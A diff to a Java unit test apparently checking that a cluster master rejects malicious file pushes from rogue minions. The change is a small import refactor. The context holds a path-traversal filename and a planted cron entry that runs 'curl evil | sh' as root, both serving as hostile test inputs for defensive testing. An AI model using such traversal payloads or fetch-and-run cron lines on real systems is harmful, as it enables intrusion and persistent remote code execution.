@@ -7,6 +7,7 @@ import static org.junit.jupiter.api.Assertions.assertTrue;
 import com.fasterxml.jackson.databind.JsonNode;
 import com.fasterxml.jackson.databind.ObjectMapper;
 import com.sun.management.GarbageCollectionNotificationInfo;
+import io.brine.jobs.JobSpec;
 import io.brine.minion.Minion;
 import io.brine.protocol.FilePush;
 import io.brine.protocol.FilePushAck;
@@ -226,7 +227,7 @@ class FileTransferTest {
             assertFalse(Files.exists(root.resolve("master/cache/minions/mallory/files/tmp/unasked")));
 
             // With a cp.push job running (mallory never answers it), the paths themselves are checked.
-            cluster.master.client().cast(io.brine.master.JobSpec.of("mallory", "cp.push", "/tmp/x")
+            cluster.master.client().cast(JobSpec.of("mallory", "cp.push", "/tmp/x")
                     .withTimeout(java.time.Duration.ofSeconds(60)));
             rogue.endpoint.send(new FilePush(7, "t1", "../../../../escaped", 0, data, true, sha256(data), 0644));
             FilePushAck ack = awaitAck(rogue, 7);
@@ -251,7 +252,7 @@ class FileTransferTest {
                 Thread.sleep(20);
             }
             // The operator asks trudy for its syslog; trudy never answers the job, and pushes other files instead.
-            cluster.master.client().cast(io.brine.master.JobSpec.of("trudy", "cp.push", "/var/log/syslog")
+            cluster.master.client().cast(JobSpec.of("trudy", "cp.push", "/var/log/syslog")
                     .withTimeout(Duration.ofSeconds(60)));
             byte[] planted = "* * * * * root curl evil | sh".getBytes(StandardCharsets.US_ASCII);
             rogue.endpoint.send(new FilePush(1, "t1", "/etc/cron.d/planted", 0, planted, true, sha256(planted), 0644));
